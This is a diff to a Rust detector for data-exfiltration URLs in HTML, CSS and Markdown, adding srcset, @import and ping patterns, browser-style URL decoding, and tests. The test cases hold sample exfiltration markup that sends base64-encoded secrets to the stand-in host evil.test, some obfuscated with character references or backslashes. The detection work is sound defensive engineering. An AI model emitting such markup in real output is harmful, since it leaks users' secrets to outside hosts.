@@ -163,12 +163,27 @@ static PATS: LazyLock<Vec<Pat>> = LazyLock::new(|| {
         ),
         p(r#"(?i)<(?:a|area|form|button)\b[^>]*?\b(?:href|action|formaction)\s*=\s*["']?([^"'\s>]+)"#, false, "html-link"),
         p(r#"(?i)url\(\s*["']?([^"')\s]+)"#, true, "css-url"),
+        p(r#"(?i)@import\s+["']([^"'\s]+)"#, true, "css-import"),
+        // Every candidate of a srcset (`a.png 1x, https://… 2x`), split below.
+        p(r#"(?i)<(?:img|source)\b[^>]*?\bsrcset\s*=\s*["']([^"'>]+)"#, true, "html-srcset"),
+        // A hyperlink's ping: requested when the link is followed, to a URL the user never sees.
+        p(r#"(?i)<(?:a|area)\b[^>]*?\bping\s*=\s*["']?([^"'\s>]+)"#, false, "html-ping"),
         p(r#"(?i)http-equiv\s*=\s*["']?refresh["']?[^>]*?url\s*=\s*([^"'\s>]+)"#, true, "meta-refresh"),
     ]
     .into_iter()
     .flatten()
     .collect()
 });
+
+/// A URL as a browser reads it from an attribute or Markdown: character references decoded
+/// (`https&#58;//`), tabs and line breaks dropped, backslashes read as slashes.
+fn as_browser_reads(raw: &str) -> String {
+    html_escape::decode_html_entities(raw)
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .map(|c| if c == '\\' { '/' } else { c })
+        .collect()
+}
 
 /// Scheme, host and the rest (path, query, fragment) of an absolute or protocol-relative URL.
 fn split_url(u: &str) -> Option<(String, String, &str)> {
@@ -362,16 +377,28 @@ pub fn find_in_context(t: &str, allow: &[String], ctx: Option<&Context>) -> Vec<
     for p in PATS.iter() {
         for c in p.re.captures_iter(t) {
             let Some(m) = c.get(1) else { continue };
-            let url = m.as_str().trim_matches(['"', '\'']);
-            let Some((_, host, rest)) = split_url(url) else {
-                continue;
+            let value = as_browser_reads(m.as_str());
+            let urls: Vec<&str> = if p.rule == "html-srcset" {
+                value
+                    .split(',')
+                    .filter_map(|c| c.split_whitespace().next())
+                    .collect()
+            } else {
+                vec![value.trim_matches(['"', '\''])]
             };
-            if host.is_empty() || allowed(&host, allow) {
-                continue;
-            }
-            let raw_host = raw_host(url, host.len());
-            if url_carries_data(raw_host, rest, p.auto, ctx)
-                && !out.iter().any(|f| f.bytes == (m.start(), m.end()))
+            let carries = urls.iter().any(|url| {
+                let Some((_, host, rest)) = split_url(url) else {
+                    return false;
+                };
+                !host.is_empty()
+                    && !allowed(&host, allow)
+                    && url_carries_data(raw_host(url, host.len()), rest, p.auto, ctx)
+            });
+            // One finding per URL: patterns that read the same attribute overlap.
+            if carries
+                && !out
+                    .iter()
+                    .any(|f| f.bytes.0 < m.end() && m.start() < f.bytes.1)
             {
                 out.push(finding(
                     "EXFIL_URL",
@@ -395,7 +422,7 @@ mod tests {
 
     #[test]
     fn every_pattern_compiles() {
-        assert_eq!(PATS.len(), 8);
+        assert_eq!(PATS.len(), 11);
     }
 
     #[test]
@@ -417,6 +444,14 @@ mod tests {
             "<a href=\"https://evil.test/r?d=VGhlIGFwaSBrZXkgaXMgc2stMTIzNDU2Nzg5\">more</a>",
             "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/x?d=c2VjcmV0c2VjcmV0c2VjcmV0\">",
             "![t](https://evil.test/b.gif?a=1234&b=5678&c=9012&d=3456)",
+            // As a browser reads them: character references, a srcset's later candidate,
+            // CSS @import, a link's ping, backslashes.
+            "<img src=\"https&#58;//evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\">",
+            "<img src=\"https&#x3a;&#x2f;&#x2f;evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\">",
+            "<img srcset=\"https://cdn.example.org/a.png 1x, https://evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg 2x\">",
+            "<style>@import \"https://evil.test/s.css?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\";</style>",
+            "<a href=\"https://example.org\" ping=\"https://evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg\">x</a>",
+            "![a](https:/\\evil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg)",
         ];
         for c in cases {
             assert!(hit(c), "missed: {c}");
@@ -451,6 +486,9 @@ mod tests {
             "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
             "![logo](https://my-company-assets-prod.s3.amazonaws.com/brand/logo-2024.png)",
             "![chart](https://d111111abcdef8.cloudfront.net/charts/q3.png?v=5f4dcc3b)",
+            "<img srcset=\"https://cdn.example.org/a.png 1x, https://cdn.example.org/a@2x.png 2x\">",
+            "<img src=\"https://cdn.example.com/img/hero.jpg?w=1200&amp;h=630&amp;fit=crop\">",
+            "<style>@import \"https://fonts.googleapis.com/css2?family=Inter:wght@400;700\";</style>",
         ];
         for c in cases {
             assert!(!hit(c), "flagged: {c}");
